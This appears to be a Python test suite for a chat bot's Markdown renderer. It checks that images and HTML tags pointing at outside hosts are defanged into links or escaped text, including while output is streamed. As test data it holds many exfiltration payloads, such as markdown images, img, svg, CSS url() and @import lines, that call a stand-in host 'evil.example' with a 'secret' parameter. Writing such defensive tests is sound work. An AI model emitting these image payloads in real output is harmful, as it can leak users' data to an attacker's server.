"""No client loads anything of an answer. A parser that is not ours is the judge."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.bot.rendering.markdown import closable, end_of, render, streamable_prefix

HARMLESS = re.compile(r"</?(?:br|b|i|em|strong|s|del|u|sub|sup|kbd|mark|small) ?/?>", re.IGNORECASE)
EVIL = "https://evil.example/?d=secret"
READERS = [
    MarkdownIt("commonmark", {"html": True, "maxNesting": 100}).enable(["table", "strikethrough"]),
    MarkdownIt("commonmark", {"html": True, "maxNesting": 100}),
]


def loaded(text: str) -> list[str]:
    """What a client may load, by one reader of Markdown or another."""
    found = []
    for reader in READERS:
        for block in reader.parse(text):
            found += [block.content] if block.type == "html_block" else []
            for token in block.children or []:
                tag = token.type == "html_inline" and not HARMLESS.fullmatch(token.content)
                found += [token.content or token.type] if token.type == "image" or tag else []
    return found


@pytest.mark.parametrize(
    ("written", "sent"),
    [
        (f"![x]({EVIL})", f"[x]({EVIL})"),
        (f"![]({EVIL})", f"[image]({EVIL})"),
        (f"![ ]({EVIL})", f"[image ]({EVIL})"),
        (f"Wow!![x]({EVIL})", f"Wow[x]({EVIL})"),
        (f"\\![x]({EVIL})", f"[x]({EVIL})"),
        (f"\\\\![x]({EVIL})", f"\\\\[x]({EVIL})"),
        (f"![x][r]\n\n[r]: {EVIL}", f"[x][r]\n\n[r]: {EVIL}"),
        (f"![r]\n\n[r]: {EVIL}", f"[r]\n\n[r]: {EVIL}"),
        (f"[![x]({EVIL})](https://a.example)", f"[[x]({EVIL})](https://a.example)"),
        (f"![a ![b]({EVIL})]({EVIL})", f"[a [b]({EVIL})]({EVIL})"),
        ("![[note]]", "[[note]]"),
        (f'See <img src="{EVIL}" alt="a [chart]!">', f"See [a chart]({EVIL})"),
        (f"See <IMAGE\tsrc='{EVIL}'/>", f"See [image]({EVIL})"),
        (f"!<img src={EVIL}>", f"! [image]({EVIL})"),
        (f"<<img src={EVIL}>", f"< [image]({EVIL})"),
        (f"{'~' * 201}\n![x]({EVIL})", f"{'~' * 201}\n[x]({EVIL})"),
        (f'<img srcset="{EVIL} 2x">', f'&lt;img srcset="{EVIL} 2x">'),
        ("<img src=data:image/png;base64,AA==>", "&lt;img src=data:image/png;base64,AA==>"),
        (f'<div style="background:url({EVIL})">', f'&lt;div style="background:url({EVIL})">'),
        (f"<div>\n`![x]({EVIL})`\n</div>", f"&lt;div>\n`![x]({EVIL})`\n&lt;/div>"),
        (f'<svg><image href="{EVIL}"></svg>', f'&lt;svg>&lt;image href="{EVIL}">&lt;/svg>'),
        (f"<style>@import '{EVIL}'</style>", f"&lt;style>@import '{EVIL}'&lt;/style>"),
        (f"<!-- --><video poster={EVIL}>", f"&lt;!-- -->&lt;video poster={EVIL}>"),
        (f"\\<img src={EVIL}>", f"&lt;img src={EVIL}>"),
        (f"text\r![x]({EVIL})", f"text\n[x]({EVIL})"),
        (f"| `a | ![x]({EVIL}) ` |", f"| `a | [x]({EVIL}) ` |"),
        (f"a `\n![x]({EVIL}) `", f"a `\n[x]({EVIL}) `"),
        (f"\\`![x]({EVIL})`", f"\\`[x]({EVIL})`"),
        (f"> ```\n\n![x]({EVIL})", f"> ```\n\n[x]({EVIL})"),
        (f"- ```\n![x]({EVIL})", f"- ```\n[x]({EVIL})"),
        (f"- a\n\n  ```\n![x]({EVIL})\n```\n![y]({EVIL})", f"- a\n\n  ```\n[x]({EVIL})\n```\n[y]({EVIL})"),
        (f"    ```\n![x]({EVIL})", f"    ```\n[x]({EVIL})"),
        (f"```![x]({EVIL})<img src={EVIL}>\n<b c>", f"```[x]({EVIL})[image]({EVIL})\n<b c>"),
        (f"a `x | y`\n---|---\n`b | ![x]({EVIL})`", f"a `x | y`\n\\---|---\n`b | [x]({EVIL})`"),
    ],
)
def test_what_a_client_would_load_becomes_a_link_or_text(written: str, sent: str) -> None:
    assert render(written) == sent
    assert loaded(sent) == []
    assert render(sent) == sent, "what was sent may be sent again, by another worker"


@pytest.mark.parametrize(
    "text",
    [
        "`![x](y)` and ``<img src=`a`>``",
        "```\n![x](y)\n<img src=a>\n```\n",
        "   ~~~html\n   <img src=a>\n   ~~~\n",
        "1. a\n\n    ```html\n    <img src=a>\n    ```\n",
        "- a\n  - b\n    ```rust\n    let v = vec![1];\n    ```\n- c",
        "> ```\n> <img src=a>\n> ```\n",
        "| a | `<b c=d>` |\n|---|---|\n| 1 | `![x](y)` |\n",
        "a<br>b H<sub>2</sub>O, 3 < 4 && 5 > 4, <https://a.example/b> <mailto:a@b.example>",
        "! [x](y), !\\[x], &#33;[x](y), [x](y)! and a [link](https://a.example 'b')",
    ],
)
def test_code_and_what_loads_nothing_stay_as_they_are_written(text: str) -> None:
    assert render(text) == text


@pytest.mark.parametrize(
    ("written", "sent"),
    [
        ("![x](https://charts.example/1.png)", "![x](https://charts.example/1.png)"),
        ('![x](https://CHARTS.example/1.png "A chart")', '![x](https://CHARTS.example/1.png "A chart")'),
        ("![](https://charts.example)", "![](https://charts.example)"),
        ("See <img src='https://charts.example/1.png' alt=x>", "See ![x](https://charts.example/1.png)"),
        ("![x](http://charts.example/1.png)", "[x](http://charts.example/1.png)"),
        (
            f'`` x\n` ![a](https://charts.example "` ![b]({EVIL})")',
            f'`` x\n` [a](https://charts.example "` [b]({EVIL})")',
        ),
        (
            f'a ![b](https://charts.example "|![c]({EVIL})")\n---|---',
            f'a [b](https://charts.example "|[c]({EVIL})")\n---|---',
        ),
        ("![x](https://charts.example.evil.example/1.png)", "[x](https://charts.example.evil.example/1.png)"),
        ("![x](https://charts.example@evil.example/1.png)", "[x](https://charts.example@evil.example/1.png)"),
        ("![x](https://charts.example\\@evil.example/)", "[x](https://charts.example\\@evil.example/)"),
        ("![x](//charts.example/1.png)", "[x](//charts.example/1.png)"),
        ("![x][r]\n\n[r]: https://charts.example/1.png", "[x][r]\n\n[r]: https://charts.example/1.png"),
        (
            "![![y](https://evil.example)](https://charts.example)",
            "[[y](https://evil.example)](https://charts.example)",
        ),
    ],
)
def test_images_of_a_host_that_is_allowed_are_shown(written: str, sent: str) -> None:
    hosts = frozenset({"charts.example"})
    assert render(written, hosts) == sent
    shown = ""
    for end in range(len(written) + 1):
        assert render(streamable_prefix(written[:end]), hosts).startswith(shown)
        shown = render(streamable_prefix(written[:end]), hosts)


IMAGES = [f"![x]({EVIL})", "![](u)", "![a][r]", "\n[r]: u\n", "<img src=https://e.example>", "<div>", "<b>", "<!--"]
BLOCKS = [
    *("\n", "\n\n", "- ", "* ", "1. ", "2. ", "10. ", "> ", "  ", "   ", "    ", "\t", "# ", "===\n", "---\n"),
    *("```", "```\n", "````\n", "```py\n", "~~~\n", "|", "| a | b |\n", "|---|---|\n", "---|---\n"),
]
INLINES = [*"`*_[]()!\\a <&|\r'\"", "``", "**", "~~", "word ", "![", "](", "]:"]
PIECES = st.sampled_from([*IMAGES, *BLOCKS, *INLINES])
MARKDOWN = st.lists(PIECES, max_size=24).map("".join)


@given(MARKDOWN)
@settings(max_examples=1500)
def test_no_reader_finds_anything_to_load(text: str) -> None:
    assert loaded(render(text)) == []


@given(MARKDOWN)
@example("> ```\n  > ")
@example("- ```\n\n  x\n ")
@example("- ```\n  ![===\n![x](https://evil.example/?d=secret)")
@example(f"![{IMAGES[0] * 4}| a | b |\n{IMAGES[0]}| a | b |\n|---|---|\n")
@example("# ![\n![x](https://evil.example/?d=secret)| a | b |\n|---|---|\n")
@example("- ```" + "![x](https://evil.example/?d=secret)" * 8 + "![](u)> ```")
@settings(max_examples=300)
def test_a_stream_only_grows_and_can_be_closed_at_any_moment(text: str) -> None:
    shown = ""
    for end in range(len(text) + 1):
        payload = streamable_prefix(text[:end])
        if len(payload) > len(shown):
            assert render(payload).startswith(render(shown))
            shown = payload
        assert closable(text[:end]).startswith(shown)
    sent = render(shown)
    assert loaded(sent) == []
    assert loaded(sent + end_of(sent).closing) == []
    assert render(text).startswith(sent)
    assert render(closable(text)).startswith(sent)


@pytest.mark.parametrize(
    "text",
    [
        "See [a|b\n|-](u)",
        "See [a\n|b\n|-](u)",
        "See [a\nb|\n|-](u)",
        "| a | b |\n|---|---|\n- ---|---\n|---|---|\n",
        "| a | b |\n|---|---|\n# a|b\n|-|-|\n| 1 | 2 |\n",
    ],
)
def test_what_looked_like_a_table_for_a_moment_is_not_taken_back(text: str) -> None:
    shown = ""
    for end in range(len(text) + 1):
        shown = max(shown, streamable_prefix(text[:end]), key=len)
        assert closable(text[:end]).startswith(shown)
